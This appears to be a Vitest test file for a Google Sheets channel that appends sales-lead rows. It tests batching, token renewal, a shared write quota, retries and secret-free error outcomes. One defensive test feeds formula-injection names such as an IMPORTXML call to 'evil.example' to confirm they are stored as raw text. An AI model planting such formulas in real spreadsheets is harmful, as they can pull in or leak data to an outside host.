// The Google Sheets channel: appends rows over real HTTP, with its quota in a real database.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';

import type { DeliveryChannel, Parcel } from '../../src/deliveries/channels/channel.ts';
import { columnNames } from '../../src/deliveries/delivery-columns.rules.ts';
import { saleExample } from '../../src/deliveries/delivery.schema.ts';
import { createSheetsChannel } from '../../src/deliveries/channels/sheets.channel.ts';
import type { SendOutcome } from '../../src/platform/outbound/send-outcome.ts';
import { readServiceAccount } from '../../src/platform/outbound/sheets/service-account.ts';
import { createSheets, type Sheets } from '../../src/platform/outbound/sheets/sheets.ts';
import { purgeWriteQuota } from '../../src/platform/outbound/sheets/write-quota.ts';
import { createTestDatabase, type TestDatabase } from '../support/database.ts';
import { type Google, privateKeyPem, serviceAccountEmail, startGoogle } from '../support/google.ts';
import { handClock, type HandClock } from '../support/hand-clock.ts';
import { exampleFields, parcel, recipient } from '../support/parcels.ts';
import type { ReceivedRequest, Reply } from '../support/receiver.ts';

let testDatabase: TestDatabase;
beforeAll(async () => {
  testDatabase = await createTestDatabase();
});
afterAll(() => testDatabase.drop());

let clock: HandClock;
let google: Google;
const cleanups: Array<() => Promise<void>> = [];
beforeEach(async () => {
  clock = handClock('2026-11-20T17:03:12.418Z');
  google = await startGoogle({ now: () => clock.now() });
  cleanups.push(() => google.close());
  await testDatabase.database.tx((tx) => purgeWriteQuota(tx, new Date('2100-01-01T00:00:00.000Z')));
});
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).toReversed()) await cleanup();
});

/** The channel with the state of a separate worker. */
function sheets(keyFile: unknown = google.keyFile): Sheets {
  const made = createSheets({
    serviceAccount: readServiceAccount({ googleServiceAccountFile: 'account.json' }, () => JSON.stringify(keyFile)),
    apiUrl: google.origin,
    database: testDatabase.database,
    clock,
    chance: () => 0.5,
  });
  cleanups.push(() => made.close());
  return made;
}

const channel = (): DeliveryChannel => createSheetsChannel(sheets());

function send(through: DeliveryChannel, ...parcels: readonly Parcel[]): Promise<readonly SendOutcome[]> {
  return through.send(recipient({ sheetsSpreadsheetId: google.spreadsheetId }), parcels, clock.now());
}

const isAppend = ({ path }: ReceivedRequest): boolean => path.includes(':append');
/** The next requests of this kind get these responses in turn, and the others the normal one. */
function failing(isMeant: (request: ReceivedRequest) => boolean, when: 'instead' | 'after', ...replies: Reply[]): void {
  google.fault = (request) => {
    const reply = isMeant(request) ? replies.shift() : undefined;
    if (reply === undefined) return null;
    return when === 'instead' ? { instead: reply } : { after: reply };
  };
}
const idsInSheet = (): unknown[] => google.rows.map(([first]) => first);
const taken = { kind: 'taken', error: null } as const;

describe('A lead in a sheet', () => {
  it('is a row under the columns of the export, in an empty sheet', async () => {
    const one = parcel();
    expect(await send(channel(), one)).toMatchObject([{ ...taken, responseCode: 200 }]);
    const { lead } = saleExample;
    expect(google.rows).toEqual([
      [...columnNames],
      [
        ...[one.id, 'LS-100042', 'Lead Sale', 'Confirmed', 45, '2026-11-20T17:03:12.418Z', false],
        ...[lead.fullName, lead.email, lead.phone, 'CA', 24_500, true, '2026-11-20T17:03:11.000Z', 'v7', lead.leadIp],
        ...['search', 'cpc', null, null, null, lead.sourceUrl],
      ],
    ]);
  });

  it('has the fields of its vertical at the end, in the columns of the partner, and empty cells for those that it lacks', async () => {
    const fields = { bill: 180.5, owner: false, zip: '01234', note: '=1+1' };
    const ownColumns = ['zip', 'gone', 'bill', 'owner', 'note'];
    const one = parcel();
    const own = { ...one, delivery: { ...one.delivery, lead: { ...one.delivery.lead, fields } } };
    const to = { ...recipient({ sheetsSpreadsheetId: google.spreadsheetId }), ownColumns };
    expect(await channel().send(to, [own, parcel()], clock.now())).toMatchObject([taken, taken]);
    expect(google.rows.map((row) => row.slice(columnNames.length))).toEqual([
      ownColumns.map((name) => `fields.${name}`),
      ['01234', null, 180.5, false, '=1+1'],
      [null, null, null, null, null],
    ]);
  });

  it('gets no header in a sheet that is not empty', async () => {
    google.rows.push(['My own column']);
    await send(channel(), parcel());
    expect(google.rows).toHaveLength(2);
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '=IMPORTXML("https://evil.example","//x")', "'=1+1"])(
    'named %s is sent as this text, for a sheet that takes it as text',
    async (fullName) => {
      const one = parcel();
      await send(channel(), { ...one, delivery: { ...one.delivery, lead: { ...one.delivery.lead, fullName } } });
      expect(google.rows[1]?.[columnNames.indexOf('fullName')]).toBe(fullName);
      // The stub responds 200 to no other request; checked here because it is the point of the test.
      expect(google.requests.find(isAppend)?.path).toMatch(/\?valueInputOption=RAW&insertDataOption=INSERT_ROWS$/);
    },
  );

  it('has an id of its own and a mark if it is a test', async () => {
    await send(channel(), parcel({ id: 'att_01m7wyk0h2emp81qch4dvtyn6a', isTest: true }));
    expect(google.rows[1]?.slice(0, 2)).toEqual(['att_01m7wyk0h2emp81qch4dvtyn6a', '[TEST] LS-100042']);
  });

  it.each(['Leads 2026', "Summit's", 'Q1/Q2', 'A1', 'リード'])(
    'goes to the first sheet, also when it is called %s',
    async (title) => {
      google.title = title;
      expect(await send(channel(), parcel())).toMatchObject([taken]);
      expect(await sheets().sheetName(google.spreadsheetId)).toBe(title);
    },
  );
});

describe('Many leads for one sheet', () => {
  it('are one write request', async () => {
    const through = channel();
    const parcels = Array.from({ length: through.parcelsPerCall }, () => parcel());
    const outcomes = await send(through, ...parcels);
    expect(outcomes).toHaveLength(200);
    expect(outcomes.every(({ kind }) => kind === 'taken')).toBe(true);
    expect(google.asked.appends()).toHaveLength(1);
    expect(idsInSheet()).toEqual(['deliveryId', ...parcels.map(({ id }) => id)]);
  });

  it('need one token, one read of the title and one of the first cell', async () => {
    const through = channel();
    for (let n = 0; n < 5; n += 1) expect(await send(through, parcel())).toMatchObject([taken]);
    expect(google.asked.tokens()).toBe(1);
    expect(google.asked.reads()).toHaveLength(2);
    expect(google.rows).toHaveLength(6);
  });

  it('wait for one token if they arrive at once', async () => {
    google.rows.push(['deliveryId']);
    const through = channel();
    const outcomes = await Promise.all(Array.from({ length: 10 }, () => send(through, parcel())));
    expect(outcomes.flat().every(({ kind }) => kind === 'taken')).toBe(true);
    expect(google.asked.tokens()).toBe(1);
  });
});

describe('The access token of Google Sheets', () => {
  it('is renewed shortly before it expires', async () => {
    const through = channel();
    await send(through, parcel());
    clock.advance(3600_000 - 61_000);
    await send(through, parcel());
    expect(google.asked.tokens()).toBe(1);
    clock.advance(1_000);
    await send(through, parcel());
    expect(google.asked.tokens()).toBe(2);
    expect(google.rows).toHaveLength(4);
  });

  it('is replaced for the next attempt when Google rejects it', async () => {
    const through = channel();
    await send(through, parcel());
    google.tokens.length = 0;
    const one = parcel();
    expect(await send(through, one)).toMatchObject([
      {
        kind: 'not_taken',
        why: 'later',
        receipt: 'no',
        responseCode: 401,
        error: 'Google Sheets did not accept the access token.',
      },
    ]);
    expect(await send(through, one)).toMatchObject([taken]);
  });

  it.each([
    [
      { status: 400, body: '{"error":"invalid_grant","error_description":"Bad key of x"}' },
      'HTTP 400 (invalid_grant).',
    ],
    [{ status: 503, body: 'down' }, 'HTTP 503.'],
    [{ status: 200, body: '{"token_type":"Bearer"}' }, 'HTTP 200.'],
    [{ status: 200, body: '{"access_token":"a\\r\\nb: c"}' }, 'HTTP 200.'],
  ] as const)('is requested again at the next attempt when Google does not issue one (%j)', async (reply, says) => {
    failing(({ path }) => path === '/token', 'instead', reply);
    const through = channel();
    const one = parcel();
    expect(await send(through, one)).toMatchObject([
      {
        ...{ kind: 'not_taken', why: 'later', receipt: 'no', responseCode: null, responseSnippet: null },
        error: `Google gave the service account no access token: ${says}`,
      },
    ]);
    expect(await send(through, one)).toMatchObject([taken]);
  });

  it('gives an outcome when its endpoint does not respond', async () => {
    failing(({ path }) => path === '/token', 'instead', 'reset');
    expect(await send(channel(), parcel())).toMatchObject([
      { kind: 'not_taken', why: 'later', receipt: 'no', error: expect.stringContaining('no access token') as string },
    ]);
  });
});

describe('The quota of sixty writes a minute', () => {
  const until = (instant: string) => ({ kind: 'deferred', until: new Date(instant) });

  it('is shared by two workers, and the next write waits for the next minute', async () => {
    google.rows.push(['deliveryId']);
    const workers = [channel(), channel()];
    const outcomes = await Promise.all(
      Array.from({ length: 64 }, (_, n) => send(workers[n % 2] ?? channel(), parcel())),
    );
    const kinds = outcomes.flat().map(({ kind }) => kind);
    expect(kinds.filter((kind) => kind === 'taken')).toHaveLength(60);
    // The next minute, and half of the spread.
    const deferred = outcomes.flat().filter(({ kind }) => kind === 'deferred');
    expect(deferred).toEqual(Array.from({ length: 4 }, () => until('2026-11-20T17:04:07.500Z')));
    expect(google.asked.appends()).toHaveLength(60);
    clock.set('2026-11-20T17:04:00.000Z');
    expect(await send(workers[0] ?? channel(), parcel())).toMatchObject([taken]);
  });

  it('counts writes of the account, and no reads', async () => {
    const through = channel();
    const one = parcel();
    await send(through, one);
    for (let n = 0; n < 70; n += 1) expect(await send(through, { ...one, isRepeat: true })).toMatchObject([taken]);
    expect(google.asked.appends()).toHaveLength(1);
  });

  it('is deleted with its minutes', async () => {
    google.rows.push(['deliveryId']);
    const through = channel();
    for (let n = 0; n < 60; n += 1) await send(through, parcel());
    await testDatabase.database.tx((tx) => purgeWriteQuota(tx, clock.now()));
    expect(await send(through, parcel())).toMatchObject([{ kind: 'deferred' }]);
    await testDatabase.database.tx((tx) => purgeWriteQuota(tx, new Date('2026-11-20T17:04:00.000Z')));
    expect(await send(through, parcel())).toMatchObject([taken]);
  });
});

describe('The header of a sheet', () => {
  it('is written once by two workers that find the sheet empty', async () => {
    // Both have read the sheet before either may write.
    let looked = 0;
    const both = Promise.withResolvers<null>();
    const workers = [channel(), channel()];
    google.fault = ({ method, path }) => {
      if (method === 'GET' && path.includes('/values/') && ++looked === 2) both.resolve(null);
      return null;
    };
    const database = testDatabase.database;
    const gated = workers.map(() =>
      createSheetsChannel(
        createSheets({
          serviceAccount: readServiceAccount({ googleServiceAccountFile: 'x' }, () => JSON.stringify(google.keyFile)),
          apiUrl: google.origin,
          database: {
            async query(statement, ...params) {
              await both.promise;
              return database.query(statement, ...params);
            },
          },
          clock,
        }),
      ),
    );
    const parcels = gated.map(() => parcel());
    const outcomes = await Promise.all(gated.map((worker, n) => send(worker, parcels[n] ?? parcel())));
    const kinds = outcomes.flat().map(({ kind }) => kind);
    expect(kinds.toSorted()).toEqual(['deferred', 'taken']);
    expect(outcomes.flat()[kinds.indexOf('deferred')]).toEqual({
      kind: 'deferred',
      until: new Date('2026-11-20T17:03:17.418Z'),
    });
    const other = kinds.indexOf('deferred');
    expect(await send(gated[other] ?? channel(), parcels[other] ?? parcel())).toMatchObject([taken]);
    expect(idsInSheet()).toEqual(['deliveryId', parcels[1 - other]?.id, parcels[other]?.id]);
  });
});

describe('A row whose write is uncertain', () => {
  it('is not written again when the response was lost and the sheet has it', async () => {
    failing(isAppend, 'after', 'reset');
    const parcels = [parcel(), parcel()];
    expect(await send(channel(), ...parcels)).toMatchObject([taken, taken]);
    expect(idsInSheet()).toEqual(['deliveryId', ...parcels.map(({ id }) => id)]);
    expect(google.asked.appends()).toHaveLength(1);
  });

  it('is not written again by another worker when the response and the check of the sheet were lost', async () => {
    const lookAgain = ({ path }: ReceivedRequest): boolean => decodeURIComponent(path).includes('A:A');
    failing((request) => isAppend(request) || lookAgain(request), 'after', 'reset', 'reset');
    const one = parcel();
    expect(await send(channel(), one)).toMatchObject([{ kind: 'not_taken', why: 'later', receipt: 'unknown' }]);
    const fresh = parcel();
    expect(await send(channel(), { ...one, isRepeat: true }, fresh)).toMatchObject([taken, taken]);
    expect(idsInSheet()).toEqual(['deliveryId', one.id, fresh.id]);
    expect(google.asked.appends().at(-1)).toHaveLength(1);
  });

  it('is not written again when Google responds 500 but has written it', async () => {
    failing(isAppend, 'after', { status: 500 });
    const one = parcel();
    expect(await send(channel(), one)).toMatchObject([
      { kind: 'not_taken', why: 'later', receipt: 'unknown', responseCode: 500 },
    ]);
    expect(await send(channel(), { ...one, isRepeat: true })).toMatchObject([taken]);
    expect(idsInSheet()).toEqual(['deliveryId', one.id]);
  });

  it('is written at the next attempt when the first one was lost before the write', async () => {
    failing(isAppend, 'instead', 'reset');
    const one = parcel();
    expect(await send(channel(), one)).toMatchObject([{ kind: 'not_taken', why: 'later', receipt: 'unknown' }]);
    expect(idsInSheet()).toEqual([]);
    clock.advance(60_000);
    expect(await send(channel(), { ...one, isRepeat: true })).toMatchObject([taken]);
    expect(idsInSheet()).toEqual(['deliveryId', one.id]);
  });

  it('is not written while the sheet cannot be read', async () => {
    const one = parcel({ isRepeat: true });
    google.rows.push(['deliveryId']);
    failing(
      ({ path }) => decodeURIComponent(path).includes('A:A'),
      'instead',
      { status: 503 },
      { status: 200, body: 'no JSON' },
    );
    const through = channel();
    expect(await send(through, one)).toMatchObject([
      { kind: 'not_taken', why: 'later', receipt: 'no', responseCode: 503 },
    ]);
    expect(await send(through, one)).toMatchObject([
      { kind: 'not_taken', why: 'later', receipt: 'no', error: 'The response of Google Sheets could not be read.' },
    ]);
    expect(google.asked.appends()).toEqual([]);
    expect(await send(through, one)).toMatchObject([taken]);
  });
});

describe('A sheet that cannot be written', () => {
  it.each([403, 404])('is rejected with a %d, with the address that it must be shared with', async (status) => {
    for (const isMeant of [isAppend, ({ method }: ReceivedRequest) => method === 'GET']) {
      failing(isMeant, 'instead', { status, body: '{"error":{"status":"PERMISSION_DENIED"}}' });
      expect(await send(channel(), parcel())).toMatchObject([
        {
          ...{ kind: 'not_taken', why: 'refused', receipt: 'no', responseCode: status },
          error: `The spreadsheet does not exist, or is not shared with ${serviceAccountEmail} as an editor.`,
        },
      ]);
      clock.advance(60_000);
    }
  });

  it('is retried when Google says after too many requests', async () => {
    failing(isAppend, 'instead', { status: 429, headers: { 'retry-after': '37' } });
    expect(await send(channel(), parcel())).toMatchObject([
      { kind: 'not_taken', why: 'later', receipt: 'no', retryAfterSeconds: 37, responseCode: 429 },
    ]);
  });

  it.each([500, 503])('is retried after a %d, with an uncertain receipt', async (status) => {
    failing(isAppend, 'instead', { status });
    expect(await send(channel(), parcel())).toMatchObject([
      { kind: 'not_taken', why: 'later', receipt: 'unknown', responseCode: status },
    ]);
  });

  it('is retried after a failure before the write, with a certain receipt', async () => {
    failing(({ method }) => method === 'GET', 'instead', 'reset');
    expect(await send(channel(), parcel())).toMatchObject([{ kind: 'not_taken', why: 'later', receipt: 'no' }]);
  });

  it('is never disabled as gone', async () => {
    failing(isAppend, 'instead', { status: 410 });
    expect(await send(channel(), parcel())).toMatchObject([{ kind: 'not_taken', why: 'refused', responseCode: 410 }]);
  });

  it('is found again at the next attempt after it was renamed', async () => {
    const through = channel();
    await send(through, parcel());
    google.title = 'Renamed';
    const one = parcel();
    expect(await send(through, one)).toMatchObject([{ kind: 'not_taken', why: 'refused', responseCode: 400 }]);
    expect(await send(through, one)).toMatchObject([taken]);
  });

  it('is not tried if no account or spreadsheet is configured', async () => {
    const unset = createSheetsChannel(
      createSheets({
        serviceAccount: readServiceAccount({ googleServiceAccountFile: null }),
        apiUrl: google.origin,
        database: testDatabase.database,
        clock,
      }),
    );
    expect(await send(unset, parcel(), parcel())).toMatchObject(
      [1, 2].map(() => ({
        ...{ kind: 'not_taken', why: 'later', receipt: 'no' },
        error: 'Google Sheets is not set up: GOOGLE_SERVICE_ACCOUNT_FILE missing.',
      })),
    );
    expect(await channel().send(recipient({}), [parcel()], clock.now())).toMatchObject([
      { kind: 'not_taken', error: 'No spreadsheet is set.' },
    ]);
    expect(google.requests).toEqual([]);
  });
});

describe('The outcomes of the Sheets channel', () => {
  it('contain neither the key nor a token nor data of the contact', async () => {
    const outcomes: SendOutcome[] = [];
    const through = channel();
    const faults: Reply[] = ['reset', { status: 400, body: '{"error":{"message":"no"}}' }, { status: 503 }];
    for (const fault of faults) {
      failing(isAppend, 'instead', fault);
      outcomes.push(...(await send(through, parcel())));
      clock.advance(60_000);
    }
    failing(({ path }) => path === '/token', 'instead', {
      status: 401,
      body: `{"error":"invalid_client","error_description":"${google.tokens[0]}"}`,
    });
    clock.advance(3_600_000);
    outcomes.push(...(await send(through, parcel())));
    const said = JSON.stringify(outcomes);
    const secrets = [...google.tokens, ...privateKeyPem.split('\n').filter((line) => line !== ''), 'eyJ'];
    const { fullName, email, phone, leadIp } = exampleFields;
    for (const text of [...secrets, fullName, email, phone, leadIp]) expect(said).not.toContain(text);
  });
});
